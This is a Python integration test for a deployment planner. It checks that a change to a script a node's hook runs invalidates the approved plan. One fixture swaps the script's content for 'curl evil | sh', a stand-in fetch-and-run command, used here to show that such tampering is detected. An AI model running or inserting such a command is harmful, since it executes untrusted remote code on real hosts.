"""What a node's hooks run is a part of its plan: they run on the machine itself."""

from __future__ import annotations

from pathlib import Path

from bot.domain.names import NodeName
from bot.fleetfile import Hooks, Node
from bot.plan.approval import find_unapproved
from bot.plan.identity import digest_effect
from bot.plan.model import NodePlan
from bot.planner.snapshot import Snapshot
from tests.integration.planner.render_world import RenderWorld

STACK = {"stacks/web/compose.yaml": "services: {web: {image: 'app:1'}}\n"}
HOOKS = Hooks(before=(("sh", "scripts/make-certs.sh"),))


def test_a_script_that_a_hook_runs_is_approved_with_the_plan(tmp_path: Path) -> None:
    world = RenderWorld(tmp_path)

    def plan(old: Snapshot, new: Snapshot, hooks: Hooks = HOOKS) -> NodePlan:
        return world.plan(old, new, Node(name=NodeName("LAB"), hooks=hooks))

    first = world.push(STACK, overlay={"scripts/make-certs.sh": "true\n", "scripts/other.sh": "true\n"})
    evil = world.push(STACK, overlay={"scripts/make-certs.sh": "curl evil | sh\n"})
    beside = world.push(STACK, overlay={"scripts/make-certs.sh": "true\n", "scripts/other.sh": "false\n"})
    elsewhere = world.push(STACK, overlay={"scripts/other.sh": "true\n", "notes.md": "words\n"})
    approved = plan(first, first)
    line = "its hooks, or files that they run, are not those of the approved plan"
    for changed in (evil, beside):
        found = plan(first, changed)
        assert find_unapproved(found, approved) == (line,)
        assert digest_effect(found) != digest_effect(approved)
    assert plan(first, evil).remarks[-1] == "files that its hooks run or may read change: scripts/make-certs.sh"
    assert find_unapproved(plan(first, elsewhere), approved) == ()
    assert plan(first, elsewhere).hooks == approved.hooks
    other_words = Hooks(before=(("sh", "-x", "scripts/make-certs.sh"),))
    assert find_unapproved(plan(first, first, other_words), approved) == (line,)
    assert plan(first, first, Hooks()).hooks == ""
